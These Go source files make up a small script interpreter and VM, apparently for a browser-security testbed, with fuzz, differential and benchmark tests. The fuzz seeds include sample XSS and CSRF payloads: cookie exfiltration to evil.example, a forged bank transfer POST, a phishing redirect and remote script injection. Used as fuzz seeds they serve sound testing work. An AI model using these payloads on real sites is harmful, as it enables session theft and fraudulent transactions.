		}
		text := l.intern(l.src[start:l.pos])
		kind := tokIdent
		if keywords[text] {
			kind = tokKeyword
		}
		return token{kind: kind, text: text, pos: start, line: line}, nil

	case c >= '0' && c <= '9':
		for l.pos < len(l.src) && (isDigit(l.src[l.pos]) || l.src[l.pos] == '.') {
			l.pos++
		}
		return token{kind: tokNumber, text: l.src[start:l.pos], pos: start, line: line}, nil

	case c == '"' || c == '\'':
		return l.scanString(c)
	}

	for _, p := range puncts {
		if strings.HasPrefix(l.src[l.pos:], p) {
			l.pos += len(p)
			return token{kind: tokPunct, text: p, pos: start, line: line}, nil
		}
	}
	return token{}, &SyntaxError{Line: line, Msg: fmt.Sprintf("unexpected character %q", c)}
}

// scanString scans a quoted string with the usual escapes.
func (l *lexer) scanString(quote byte) (token, error) {
	start, line := l.pos, l.line
	l.pos++ // opening quote
	var b strings.Builder
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch c {
		case quote:
			l.pos++
			return token{kind: tokString, text: b.String(), pos: start, line: line}, nil
		case '\\':
			l.pos++
			if l.pos >= len(l.src) {
				return token{}, &SyntaxError{Line: line, Msg: "unterminated escape"}
			}
			switch e := l.src[l.pos]; e {
			case 'n':
				b.WriteByte('\n')
			case 't':
				b.WriteByte('\t')
			case 'r':
				b.WriteByte('\r')
			case '\\', '"', '\'', '/':
				b.WriteByte(e)
			case '0':
				b.WriteByte(0)
			default:
				b.WriteByte(e)
			}
			l.pos++
		case '\n':
			return token{}, &SyntaxError{Line: line, Msg: "newline in string literal"}
		default:
			b.WriteByte(c)
			l.pos++
		}
	}
	return token{}, &SyntaxError{Line: line, Msg: "unterminated string literal"}
}

// skipSpaceAndComments consumes whitespace, // and /* */ comments.
func (l *lexer) skipSpaceAndComments() {
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case c == '\n':
			l.line++
			l.pos++
		case c == ' ' || c == '\t' || c == '\r':
			l.pos++
		case strings.HasPrefix(l.src[l.pos:], "//"):
			for l.pos < len(l.src) && l.src[l.pos] != '\n' {
				l.pos++
			}
		case strings.HasPrefix(l.src[l.pos:], "/*"):
			end := strings.Index(l.src[l.pos+2:], "*/")
			if end < 0 {
				l.pos = len(l.src)
				return
			}
			l.line += strings.Count(l.src[l.pos:l.pos+2+end+2], "\n")
			l.pos += 2 + end + 2
		default:
			return
		}
	}
}

func isIdentStart(c byte) bool {
	return c == '_' || c == '$' || unicode.IsLetter(rune(c))
}

func isIdentPart(c byte) bool {
	return isIdentStart(c) || isDigit(c)
}

func isDigit(c byte) bool { return c >= '0' && c <= '9' }
