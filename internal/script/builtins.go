package script

import (
	"errors"
	"math"
	"net/url"
	"strconv"
	"strings"
	"sync"
)

// Console collects script log output (console.log / log builtin). It
// is safe for concurrent use.
type Console struct {
	mu    sync.Mutex
	lines []string
}

// Log appends a line.
func (c *Console) Log(line string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.lines = append(c.lines, line)
}

// Lines returns a copy of the logged lines.
func (c *Console) Lines() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]string, len(c.lines))
	copy(out, c.lines)
	return out
}

// consoleHost exposes console.log to scripts.
type consoleHost struct{ c *Console }

var _ HostObject = (*consoleHost)(nil)

func (h *consoleHost) HostName() string { return "Console" }

func (h *consoleHost) HostGet(name string) (Value, error) {
	if name == "log" {
		return NativeFunc(func(args []Value) (Value, error) {
			parts := make([]string, len(args))
			for i, a := range args {
				parts[i] = ToString(a)
			}
			h.c.Log(strings.Join(parts, " "))
			return nil, nil
		}), nil
	}
	return nil, nil
}

func (h *consoleHost) HostSet(name string, v Value) error {
	return errors.New("console is read-only")
}

// StdEnv builds the base environment every script gets: console plus
// the pure builtins. The browser adds document, window, and
// XMLHttpRequest bindings on top, bound to the principal's security
// context.
func StdEnv(console *Console) *Env {
	env := NewEnv()
	env.Define("console", &consoleHost{c: console})
	env.Define("log", NativeFunc(func(args []Value) (Value, error) {
		parts := make([]string, len(args))
		for i, a := range args {
			parts[i] = ToString(a)
		}
		console.Log(strings.Join(parts, " "))
		return nil, nil
	}))
	env.Define("String", NativeFunc(func(args []Value) (Value, error) {
		if len(args) == 0 {
			return "", nil
		}
		return ToString(args[0]), nil
	}))
	env.Define("Number", NativeFunc(func(args []Value) (Value, error) {
		if len(args) == 0 {
			return float64(0), nil
		}
		switch v := args[0].(type) {
		case float64:
			return v, nil
		case string:
			n, err := strconv.ParseFloat(strings.TrimSpace(v), 64)
			if err != nil {
				return math.NaN(), nil
			}
			return n, nil
		case bool:
			if v {
				return float64(1), nil
			}
			return float64(0), nil
		default:
			return math.NaN(), nil
		}
	}))
	env.Define("parseInt", NativeFunc(func(args []Value) (Value, error) {
		if len(args) == 0 {
			return math.NaN(), nil
		}
		s := strings.TrimSpace(ToString(args[0]))
		end := 0
		for end < len(s) && (s[end] >= '0' && s[end] <= '9' || (end == 0 && (s[end] == '-' || s[end] == '+'))) {
			end++
		}
		n, err := strconv.ParseInt(s[:end], 10, 64)
		if err != nil {
			return math.NaN(), nil
		}
		return float64(n), nil
	}))
	env.Define("isNaN", NativeFunc(func(args []Value) (Value, error) {
		if len(args) == 0 {
			return true, nil
		}
		n, ok := args[0].(float64)
		return !ok || math.IsNaN(n), nil
	}))
	env.Define("encodeURIComponent", NativeFunc(func(args []Value) (Value, error) {
		if len(args) == 0 {
			return "", nil
		}
		return url.QueryEscape(ToString(args[0])), nil
	}))
	env.Define("decodeURIComponent", NativeFunc(func(args []Value) (Value, error) {
		if len(args) == 0 {
			return "", nil
		}
		s, err := url.QueryUnescape(ToString(args[0]))
		if err != nil {
			return ToString(args[0]), nil
		}
		return s, nil
	}))

	mathObj := NewObject()
	mathObj.Props["floor"] = NativeFunc(num1(math.Floor))
	mathObj.Props["ceil"] = NativeFunc(num1(math.Ceil))
	mathObj.Props["abs"] = NativeFunc(num1(math.Abs))
	mathObj.Props["max"] = NativeFunc(numFold(math.Inf(-1), math.Max))
	mathObj.Props["min"] = NativeFunc(numFold(math.Inf(1), math.Min))
	env.Define("Math", mathObj)

	// attempt(fn) runs fn and swallows any error, returning whether
	// it succeeded. Attack scripts use it to probe multiple vectors
	// in one run even when the monitor denies the earlier ones.
	env.Define("attempt", NativeFunc(func(args []Value) (Value, error) {
		if len(args) == 0 {
			return false, nil
		}
		ip := &Interp{}
		v, err := ip.callValue(args[0], args[1:], 0)
		_ = v
		return err == nil, nil
	}))
	return env
}

func num1(f func(float64) float64) func([]Value) (Value, error) {
	return func(args []Value) (Value, error) {
		if len(args) == 0 {
			return math.NaN(), nil
		}
		n, ok := args[0].(float64)
		if !ok {
			return math.NaN(), nil
		}
		return f(n), nil
	}
}

func numFold(init float64, f func(a, b float64) float64) func([]Value) (Value, error) {
	return func(args []Value) (Value, error) {
		acc := init
		for _, a := range args {
			n, ok := a.(float64)
			if !ok {
				return math.NaN(), nil
			}
			acc = f(acc, n)
		}
		return acc, nil
	}
}
