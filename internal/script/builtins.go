package script

import (
	"errors"
	"math"
	"net/url"
	"strconv"
	"strings"
	"sync"
)

// The standard library is organised as Modules (module.go): console,
// math, string, and util. Hosts install them with Install, or use the
// StdEnv convenience that installs the full set. All natives here are
// built with Func, the CtxFunc constructor — see the deprecation note
// on NativeFunc.

// Console collects script log output (console.log / log builtin). It
// is safe for concurrent use.
type Console struct {
	mu    sync.Mutex
	lines []string
}

// Log appends a line.
func (c *Console) Log(line string) {
	c.mu.Lock()
	defer c.mu.Unlock()
	c.lines = append(c.lines, line)
}

// Lines returns a copy of the logged lines.
func (c *Console) Lines() []string {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]string, len(c.lines))
	copy(out, c.lines)
	return out
}

// consoleHost exposes console.log to scripts.
type consoleHost struct {
	c   *Console
	log CtxFunc
}

var _ HostObject = (*consoleHost)(nil)

func (h *consoleHost) HostName() string { return "Console" }

func (h *consoleHost) HostGet(name string) (Value, error) {
	if name == "log" {
		return h.log, nil
	}
	return nil, nil
}

func (h *consoleHost) HostSet(name string, v Value) error {
	return errors.New("console is read-only")
}

func logFunc(c *Console) CtxFunc {
	return Func("log", func(_ *Ctx, args []Value) (Value, error) {
		parts := make([]string, len(args))
		for i, a := range args {
			parts[i] = ToString(a)
		}
		c.Log(strings.Join(parts, " "))
		return nil, nil
	})
}

// ConsoleModule binds console (a host object) and the bare log alias,
// both writing to c.
func ConsoleModule(c *Console) Module {
	return Module{Name: "console", Install: func(env *Env) error {
		log := logFunc(c)
		env.Define("console", &consoleHost{c: c, log: log})
		env.Define("log", log)
		return nil
	}}
}

// The env-independent natives are built once at package init:
// environments are constructed per script execution, so Install cost
// is on the hot path and should be map inserts, not closure builds.
var (
	mathMembers = map[string]Value{
		"floor": num1("Math.floor", math.Floor),
		"ceil":  num1("Math.ceil", math.Ceil),
		"abs":   num1("Math.abs", math.Abs),
		"max":   numFold("Math.max", math.Inf(-1), math.Max),
		"min":   numFold("Math.min", math.Inf(1), math.Min),
	}

	stringFn = Func("String", func(_ *Ctx, args []Value) (Value, error) {
		if len(args) == 0 {
			return "", nil
		}
		return ToString(args[0]), nil
	})

	numberFn = Func("Number", func(_ *Ctx, args []Value) (Value, error) {
		if len(args) == 0 {
			return float64(0), nil
		}
		switch v := args[0].(type) {
		case float64:
			return numValue(v), nil
		case string:
			n, err := strconv.ParseFloat(strings.TrimSpace(v), 64)
			if err != nil {
				return math.NaN(), nil
			}
			return numValue(n), nil
		case bool:
			if v {
				return float64(1), nil
			}
			return float64(0), nil
		default:
			return math.NaN(), nil
		}
	})

	parseIntFn = Func("parseInt", func(_ *Ctx, args []Value) (Value, error) {
		if len(args) == 0 {
			return math.NaN(), nil
		}
		s := strings.TrimSpace(ToString(args[0]))
		end := 0
		for end < len(s) && (s[end] >= '0' && s[end] <= '9' || (end == 0 && (s[end] == '-' || s[end] == '+'))) {
			end++
		}
		n, err := strconv.ParseInt(s[:end], 10, 64)
		if err != nil {
			return math.NaN(), nil
		}
		return numValue(float64(n)), nil
	})

	isNaNFn = Func("isNaN", func(_ *Ctx, args []Value) (Value, error) {
		if len(args) == 0 {
			return true, nil
		}
		n, ok := args[0].(float64)
		return !ok || math.IsNaN(n), nil
	})

	encodeURIFn = Func("encodeURIComponent", func(_ *Ctx, args []Value) (Value, error) {
		if len(args) == 0 {
			return "", nil
		}
		return url.QueryEscape(ToString(args[0])), nil
	})

	decodeURIFn = Func("decodeURIComponent", func(_ *Ctx, args []Value) (Value, error) {
		if len(args) == 0 {
			return "", nil
		}
		s, err := url.QueryUnescape(ToString(args[0]))
		if err != nil {
			return ToString(args[0]), nil
		}
		return s, nil
	})

	attemptFn = Func("attempt", func(ctx *Ctx, args []Value) (Value, error) {
		if len(args) == 0 {
			return false, nil
		}
		_, err := ctx.Call(args[0], args[1:]...)
		if err != nil && errors.Is(err, ErrTooManySteps) {
			// Fuel exhaustion is the engine's verdict, not the
			// probe's: attempt must not swallow it.
			return nil, err
		}
		return err == nil, nil
	})
)

// MathModule binds the Math object (floor, ceil, abs, max, min). The
// object itself is fresh per environment — scripts may overwrite its
// members — but the member functions are shared.
func MathModule() Module {
	return Module{Name: "math", Install: func(env *Env) error {
		props := make(map[string]Value, len(mathMembers))
		for k, v := range mathMembers {
			props[k] = v
		}
		env.Define("Math", &Object{Props: props})
		return nil
	}}
}

// StringModule binds the conversion and encoding builtins: String,
// Number, parseInt, isNaN, encodeURIComponent, decodeURIComponent.
func StringModule() Module {
	return Module{Name: "string", Install: func(env *Env) error {
		env.Define("String", stringFn)
		env.Define("Number", numberFn)
		env.Define("parseInt", parseIntFn)
		env.Define("isNaN", isNaNFn)
		env.Define("encodeURIComponent", encodeURIFn)
		env.Define("decodeURIComponent", decodeURIFn)
		return nil
	}}
}

// UtilModule binds attempt(fn, args...): run fn swallowing any error,
// returning whether it succeeded. Attack scripts use it to probe
// multiple vectors in one run even when the monitor denies the earlier
// ones. The callback runs through Ctx.Call, so its body charges the
// calling engine's step budget — a looping callback cannot escape
// MaxSteps by hiding inside a native call.
func UtilModule() Module {
	return Module{Name: "util", Install: func(env *Env) error {
		env.Define("attempt", attemptFn)
		return nil
	}}
}

// StdModules is the standard library every script environment gets.
func StdModules(console *Console) []Module {
	return []Module{ConsoleModule(console), MathModule(), StringModule(), UtilModule()}
}

// StdEnv builds the base environment every script gets: console plus
// the pure builtins. The browser adds document, window, and
// XMLHttpRequest bindings on top, bound to the principal's security
// context.
func StdEnv(console *Console) *Env {
	env := NewEnv()
	if err := Install(env, StdModules(console)...); err != nil {
		// The standard modules never fail to install.
		panic("script: stdlib install: " + err.Error())
	}
	return env
}

func num1(name string, f func(float64) float64) CtxFunc {
	return Func(name, func(_ *Ctx, args []Value) (Value, error) {
		if len(args) == 0 {
			return math.NaN(), nil
		}
		n, ok := args[0].(float64)
		if !ok {
			return math.NaN(), nil
		}
		return numValue(f(n)), nil
	})
}

func numFold(name string, init float64, f func(a, b float64) float64) CtxFunc {
	return Func(name, func(_ *Ctx, args []Value) (Value, error) {
		acc := init
		for _, a := range args {
			n, ok := a.(float64)
			if !ok {
				return math.NaN(), nil
			}
			acc = f(acc, n)
		}
		return numValue(acc), nil
	})
}
