package script

import "testing"

// FuzzParse checks the parser never panics and the interpreter always
// terminates within its step budget on whatever parses.
func FuzzParse(f *testing.F) {
	seeds := []string{
		`var x = 1; x + 2;`,
		`function f(a) { return a * 2; } f(21);`,
		`for (var i = 0; i < 3; i++) { }`,
		`var o = {a: [1, 2]}; o.a[0];`,
		`"str" + 1 + true + null;`,
		`while (x) break;`,
		`new F(1, 2);`,
		`a ? b : c;`,
		`x = /* comment */ 1; // tail`,
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		prog, err := Parse(s)
		if err != nil {
			return
		}
		ip := &Interp{MaxSteps: 20000}
		_, _ = ip.Run(prog, StdEnv(&Console{})) // termination is the invariant
	})
}
