package script

import (
	"strings"
	"testing"
)

// fuzzSeeds covers the grammar; the attack-corpus bodies below mirror
// internal/attack's §6.4 scripts, so the fuzzers start from the exact
// shapes the monitor mediates in production (document, Image, and
// XMLHttpRequest resolve to "undefined variable" errors under StdEnv,
// which both engines must report identically).
var fuzzSeeds = []string{
	`var x = 1; x + 2;`,
	`function f(a) { return a * 2; } f(21);`,
	`for (var i = 0; i < 3; i++) { }`,
	`var o = {a: [1, 2]}; o.a[0];`,
	`"str" + 1 + true + null;`,
	`while (x) break;`,
	`new F(1, 2);`,
	`a ? b : c;`,
	`x = /* comment */ 1; // tail`,
	// attack-corpus script bodies (xss.go / csrf.go shapes)
	`var i = new Image(); i.src = "http://evil.example/steal?c=" + encodeURIComponent(document.cookie);`,
	`document.getElementById("announcement").innerText = "OWNED BY MALLORY";`,
	`var x = new XMLHttpRequest(); x.open("POST", "http://bank.example/transfer"); x.send("to=mallory&amount=1000");`,
	`document.getElementById("f").submit();`,
	`document.location = "http://evil.example/phish";`,
	`var ok = attempt(function() { return document.cookie; }); log("leaked", ok);`,
	`var el = document.createElement("script"); el.src = "http://evil.example/payload.js"; document.body.appendChild(el);`,
}

// FuzzParse checks the parser never panics and the interpreter always
// terminates within its step budget on whatever parses.
func FuzzParse(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		prog, err := Parse(s)
		if err != nil {
			return
		}
		ip := &Interp{MaxSteps: 20000}
		_, _ = ip.Run(prog, StdEnv(&Console{})) // termination is the invariant
	})
}

// FuzzCompileMatchesEval is the differential engine fuzzer: on every
// input that parses, the compiled VM and the tree-walking interpreter
// must produce identical results, identical error strings, identical
// console output, and identical step counts. The interpreter is the
// spec; any divergence is a compiler or VM bug. Both engines run the
// same folded program so constant folding cannot shift tick sites
// between them.
func FuzzCompileMatchesEval(f *testing.F) {
	for _, s := range fuzzSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		prog, err := Parse(s)
		if err != nil {
			return
		}
		folded := Fold(prog)

		ic, vc := &Console{}, &Console{}
		ip := &Interp{MaxSteps: 20000}
		iv, ierr := ip.Run(folded, StdEnv(ic))
		vm := &VM{MaxSteps: 20000}
		vv, verr := vm.Run(Compile(folded), StdEnv(vc))

		if (ierr == nil) != (verr == nil) {
			t.Fatalf("error disagreement:\n  interp: %v\n  vm:     %v", ierr, verr)
		}
		if ierr != nil && ierr.Error() != verr.Error() {
			t.Fatalf("error text diverges:\n  interp: %v\n  vm:     %v", ierr, verr)
		}
		if ierr == nil && (ToString(iv) != ToString(vv) || TypeOf(iv) != TypeOf(vv)) {
			t.Fatalf("results diverge: interp %s (%s), vm %s (%s)",
				ToString(iv), TypeOf(iv), ToString(vv), TypeOf(vv))
		}
		if il, vl := ic.Lines(), vc.Lines(); strings.Join(il, "\n") != strings.Join(vl, "\n") {
			t.Fatalf("console diverges:\n  interp: %q\n  vm:     %q", il, vl)
		}
		if ip.Steps() != vm.Steps() {
			t.Fatalf("step counts diverge: interp %d, vm %d", ip.Steps(), vm.Steps())
		}
	})
}
