package script

import "testing"

// The mixed-phase corpus lives in corpus.go (BenchCorpus), shared with
// cmd/escudo-serve's script section.

func benchPrograms(b *testing.B) []*Program {
	srcs := BenchCorpus()
	progs := make([]*Program, len(srcs))
	for i, src := range srcs {
		p, err := Parse(src)
		if err != nil {
			b.Fatal(err)
		}
		progs[i] = Fold(p)
	}
	return progs
}

// BenchmarkScriptEval is the tree-walking baseline: per-execution cost
// of a pre-parsed script, fresh environment each run (as the browser
// provides one per script).
func BenchmarkScriptEval(b *testing.B) {
	progs := benchPrograms(b)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, p := range progs {
			ip := &Interp{}
			if _, err := ip.Run(p, StdEnv(&Console{})); err != nil {
				b.Fatal(err)
			}
		}
	}
}

// BenchmarkScriptVM is the compiled engine on the same corpus:
// programs lowered once (as the compile cache provides), fresh
// environment each run.
func BenchmarkScriptVM(b *testing.B) {
	progs := benchPrograms(b)
	compiled := make([]*Compiled, len(progs))
	for i, p := range progs {
		compiled[i] = Compile(p)
	}
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		for _, c := range compiled {
			vm := &VM{}
			if _, err := vm.Run(c, StdEnv(&Console{})); err != nil {
				b.Fatal(err)
			}
		}
	}
}
