package script

import (
	"errors"
	"math"
	"strings"
	"testing"
)

// diffRun executes src on both engines with the same folded program
// and fails the test on any observable divergence: result, error
// string, console output, or step count. It returns the interpreter's
// outcome.
func diffRun(t *testing.T, src string, maxSteps int) (Value, error) {
	t.Helper()
	prog, perr := Parse(src)
	if perr != nil {
		t.Fatalf("Parse(%q): %v", src, perr)
	}
	folded := Fold(prog)

	ic, vc := &Console{}, &Console{}
	ip := &Interp{MaxSteps: maxSteps}
	iv, ierr := ip.Run(folded, StdEnv(ic))
	vm := &VM{MaxSteps: maxSteps}
	vv, verr := vm.Run(Compile(folded), StdEnv(vc))

	if (ierr == nil) != (verr == nil) {
		t.Fatalf("%q: error disagreement: interp %v, vm %v", src, ierr, verr)
	}
	if ierr != nil && ierr.Error() != verr.Error() {
		t.Fatalf("%q: error text diverges:\n  interp: %v\n  vm:     %v", src, ierr, verr)
	}
	if ierr == nil && (ToString(iv) != ToString(vv) || TypeOf(iv) != TypeOf(vv)) {
		t.Fatalf("%q: results diverge: interp %v (%s), vm %v (%s)",
			src, iv, TypeOf(iv), vv, TypeOf(vv))
	}
	if il, vl := ic.Lines(), vc.Lines(); strings.Join(il, "\n") != strings.Join(vl, "\n") {
		t.Fatalf("%q: console diverges: interp %v, vm %v", src, il, vl)
	}
	if ip.Steps() != vm.Steps() {
		t.Fatalf("%q: step counts diverge: interp %d, vm %d", src, ip.Steps(), vm.Steps())
	}
	return iv, ierr
}

func TestVMMatchesInterpOnErrors(t *testing.T) {
	cases := []string{
		`undefined_var;`,
		`null.prop;`,
		`var x = 1; x();`,
		`"a" - 1;`,
		`var o = {}; o.missing();`,
		`-"str";`,
		`"a" < 1;`,
		`({}) < 1;`,
		`var a = []; a[-1] = 1;`,
		`null[0];`,
		`1 . x;`,
		`var a = [1]; a["x"];`,
		`x += 1;`,
		`break;`,
		`continue;`,
		`function f() { break; } f();`,
		`console.log = 1;`,
		`var o = {}; o.x.y;`,
	}
	for _, src := range cases {
		if _, err := diffRun(t, src, 0); err == nil {
			t.Errorf("%s: want error", src)
		}
	}
}

func TestVMMatchesInterpOnPrograms(t *testing.T) {
	cases := []string{
		// The interpreter quirk where break escapes a function body
		// into the caller's loop must be preserved.
		`function f() { break; } var n = 0; while (true) { n += 1; f(); } n;`,
		`function f() { continue; } var n = 0; for (var i = 0; i < 3; i++) { f(); n += 9; } n;`,
		// Top-level return is tolerated.
		`var x = 4; return x * 2;`,
		// Compound assignment ticks twice; loops with all three target shapes.
		`var o = {n: 0}; var a = [0]; var x = 0;
		 for (var i = 0; i < 5; i++) { o.n += i; a[0] += i; x += i; }
		 o.n + a[0] + x;`,
		// Short-circuit values (not booleans) and ternaries.
		`var a = 0 || "x"; var b = 1 && null; var c = "" && "y"; a + "," + b + "," + c;`,
		// Closures capturing loop scopes.
		`var fs = []; for (var i = 0; i < 3; i++) { fs.push(function() { return i; }); }
		 fs[0]() + "," + fs[1]();`,
		// arguments object, missing params, extra args.
		`function f(a, b) { return arguments.length + ":" + (b == null); } f(1, 2, 3) + f(1);`,
		// Host-free attack-shaped probes: everything undefined is an error
		// the attempt harness swallows identically on both engines.
		`var ok1 = attempt(function() { return document.cookie; });
		 var ok2 = attempt(function() { return 2 + 2; });
		 "" + ok1 + ok2;`,
		// Nested functions, recursion, typeof on everything.
		`function fib(n) { if (n < 2) { return n; } return fib(n-1) + fib(n-2); }
		 typeof fib + ":" + fib(12);`,
		// String methods and indexing.
		`var s = "Hello, World"; s.toUpperCase() + s.substring(7) + s[0] + s.split(",").length;`,
		// Object stringification is key-sorted in both engines.
		`var o = {b: 2, a: 1, c: [1, {d: null}]}; "" + o;`,
		// Equality corners, including the function-comparison case that
		// must not panic.
		`"" + (log == log) + (null == null) + (1 == "1") + ({} == {});`,
		// console output interleaving.
		`for (var i = 0; i < 3; i++) { log("line", i); console.log("c" + i); }`,
		// new-expression through a native constructor is exercised in
		// browser tests; here via a non-function error path.
		`var ok = attempt(function() { return new missing(); }); "" + ok;`,
	}
	for _, src := range cases {
		diffRun(t, src, 0)
	}
}

func TestVMStepBudget(t *testing.T) {
	vm := &VM{MaxSteps: 1000}
	_, err := vm.RunSource(`while (true) { }`, StdEnv(&Console{}))
	if !errors.Is(err, ErrTooManySteps) {
		t.Errorf("err = %v, want ErrTooManySteps", err)
	}
	if vm.Steps() == 0 {
		t.Error("Steps() = 0 after a budgeted run")
	}
}

// TestNativeCallbackChargesFuel is the regression test for the
// MaxScriptSteps accounting fix: a native function that re-enters
// script (here recursively, native → script → native → ...) must burn
// the caller's budget and terminate with ErrTooManySteps instead of
// recursing forever inside one "step".
func TestNativeCallbackChargesFuel(t *testing.T) {
	src := `function f(g) { return reenter(g); } reenter(f);`
	mk := func() *Env {
		env := StdEnv(&Console{})
		env.Define("reenter", Func("reenter", func(ctx *Ctx, args []Value) (Value, error) {
			if len(args) == 0 {
				return nil, nil
			}
			return ctx.Call(args[0], args...)
		}))
		return env
	}
	ip := &Interp{MaxSteps: 2000}
	if _, err := ip.RunSource(src, mk()); !errors.Is(err, ErrTooManySteps) {
		t.Errorf("interp: err = %v, want ErrTooManySteps", err)
	}
	vm := &VM{MaxSteps: 2000}
	if _, err := vm.RunSource(src, mk()); !errors.Is(err, ErrTooManySteps) {
		t.Errorf("vm: err = %v, want ErrTooManySteps", err)
	}
}

// TestAttemptCannotSwallowFuelExhaustion: the attempt() probe shares
// the engine's budget and must propagate its exhaustion rather than
// reporting the callback as an ordinary failure.
func TestAttemptCannotSwallowFuelExhaustion(t *testing.T) {
	src := `attempt(function() { while (true) { } });`
	ip := &Interp{MaxSteps: 500}
	if _, err := ip.RunSource(src, StdEnv(&Console{})); !errors.Is(err, ErrTooManySteps) {
		t.Errorf("interp: err = %v, want ErrTooManySteps", err)
	}
	vm := &VM{MaxSteps: 500}
	if _, err := vm.RunSource(src, StdEnv(&Console{})); !errors.Is(err, ErrTooManySteps) {
		t.Errorf("vm: err = %v, want ErrTooManySteps", err)
	}
}

func TestModuleInstall(t *testing.T) {
	calls := 0
	env := NewEnv()
	err := Install(env,
		Module{Name: "a", Install: func(e *Env) error { calls++; e.Define("x", float64(1)); return nil }},
		Module{Name: "b", Install: func(e *Env) error { calls++; return errors.New("boom") }},
		Module{Name: "c", Install: func(e *Env) error { calls++; return nil }},
	)
	if err == nil || !strings.Contains(err.Error(), "install b") {
		t.Fatalf("err = %v, want install b failure", err)
	}
	if calls != 2 {
		t.Errorf("calls = %d, want install to stop at first failure", calls)
	}
	if v, ok := env.Get("x"); !ok || !Equals(v, float64(1)) {
		t.Errorf("x = %v, %v", v, ok)
	}
}

// TestFuncErrorBridging: a Go error returned from a Func becomes a
// named script exception that attempt() observes as failure, with the
// cause still reachable via errors.As.
func TestFuncErrorBridging(t *testing.T) {
	sentinel := errors.New("denied by policy")
	mk := func() *Env {
		env := StdEnv(&Console{})
		env.Define("guarded", Func("guarded", func(ctx *Ctx, args []Value) (Value, error) {
			return nil, sentinel
		}))
		return env
	}
	for name, runOne := range map[string]func(string, *Env) (Value, error){
		"interp": func(src string, env *Env) (Value, error) { return (&Interp{}).RunSource(src, env) },
		"vm":     func(src string, env *Env) (Value, error) { return (&VM{}).RunSource(src, env) },
	} {
		_, err := runOne(`guarded();`, mk())
		if err == nil || !errors.Is(err, sentinel) {
			t.Errorf("%s: err = %v, want wrapped sentinel", name, err)
		}
		var re *RuntimeError
		if !errors.As(err, &re) || re.Msg != "guarded" {
			t.Errorf("%s: err = %v, want RuntimeError named after the Func", name, err)
		}
		v, err := runOne(`attempt(guarded) ? "ran" : "blocked";`, mk())
		if err != nil || !Equals(v, "blocked") {
			t.Errorf("%s: attempt over bridged error = %v, %v", name, v, err)
		}
	}
}

func TestCompileCache(t *testing.T) {
	src := `var cache_probe_xyzzy = 1; cache_probe_xyzzy + 41;`
	h0, m0 := CompileCacheStats()
	c1, err := CompileCached(src)
	if err != nil {
		t.Fatal(err)
	}
	c2, err := CompileCached(src)
	if err != nil {
		t.Fatal(err)
	}
	if c1 != c2 {
		t.Error("second CompileCached returned a different program")
	}
	h1, m1 := CompileCacheStats()
	if h1 <= h0 || m1 <= m0 {
		t.Errorf("stats did not advance: hits %d→%d misses %d→%d", h0, h1, m0, m1)
	}
	v, err := (&VM{}).Run(c1, StdEnv(&Console{}))
	if err != nil || !Equals(v, float64(42)) {
		t.Errorf("cached program run = %v, %v", v, err)
	}
	// Parse errors are returned, not cached as programs.
	if _, err := CompileCached(`var;`); err == nil {
		t.Error("want parse error")
	}
}

// TestCompiledReusableAcrossRuns: one Compiled, many VMs and envs.
func TestCompiledReusableAcrossRuns(t *testing.T) {
	c, err := CompileSource(`var n = 0; for (var i = 0; i < 10; i++) { n += i; } n;`)
	if err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 3; i++ {
		v, err := (&VM{}).Run(c, StdEnv(&Console{}))
		if err != nil || !Equals(v, float64(45)) {
			t.Fatalf("run %d = %v, %v", i, v, err)
		}
	}
}

func TestVMFunctionValues(t *testing.T) {
	v, err := (&VM{}).RunSource(`var f = function(a) { return a + 1; }; typeof f + ":" + ("" + f) + ":" + f(1);`, StdEnv(&Console{}))
	if err != nil || !Equals(v, "function:[function]:2") {
		t.Errorf("got %v, %v", v, err)
	}
}

// TestVMCallsInterpClosure: a host can hand the VM a closure captured
// by the tree-walker; the VM lowers it on the fly.
func TestVMCallsInterpClosure(t *testing.T) {
	env := StdEnv(&Console{})
	ip := &Interp{}
	if _, err := ip.RunSource(`function twice(x) { return x * 2; }`, env); err != nil {
		t.Fatal(err)
	}
	v, err := (&VM{}).RunSource(`twice(21);`, env)
	if err != nil || !Equals(v, float64(42)) {
		t.Errorf("got %v, %v", v, err)
	}
}

func TestFoldPreservesSemantics(t *testing.T) {
	cases := []struct {
		src  string
		want Value
	}{
		{`1 + 2 * 3;`, float64(7)},
		{`"a" + "b" + 1;`, "ab1"},
		{`true && false || 3;`, float64(3)},
		{`!0;`, true},
		{`-(2 + 3);`, float64(-5)},
		{`typeof "x";`, "string"},
		{`1 < 2 ? "y" : "n";`, "y"},
		{`1 / 0;`, math.Inf(1)},
	}
	for _, tt := range cases {
		v, err := diffRun(t, tt.src, 0)
		if err != nil || !Equals(v, tt.want) {
			t.Errorf("%s = %v, %v; want %v", tt.src, v, err, tt.want)
		}
	}
	// Folding must not pre-trigger runtime errors.
	if _, err := diffRun(t, `"a" - 1;`, 0); err == nil {
		t.Error(`"a" - 1 must still error at runtime`)
	}
}

// TestEqualsUncomparable: comparing function values must return false,
// not panic (regression for the interface-comparison panic).
func TestEqualsUncomparable(t *testing.T) {
	nf := NativeFunc(func([]Value) (Value, error) { return nil, nil })
	if Equals(nf, nf) {
		t.Error("distinct evaluations of uncomparable values must compare false")
	}
	if got := run(t, `log == log;`); !Equals(got, false) {
		t.Errorf("log == log = %v", got)
	}
}

// TestToStringCycleGuard: self-referential structures render without
// overflowing the stack.
func TestToStringCycleGuard(t *testing.T) {
	a := &Array{}
	a.Elems = append(a.Elems, a)
	if got := ToString(a); !strings.Contains(got, "...") {
		t.Errorf("cyclic array ToString = %q", got)
	}
}
