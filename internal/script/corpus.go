package script

// benchCorpus is the mixed-phase benchmark corpus: the script shapes
// the portal, forum, and attack phases actually execute — loop-heavy
// counters, string building through arrays, closure call chains,
// object property traffic, and attempt-wrapped probes. It lives
// outside the test files so cmd/escudo-serve can replay the same
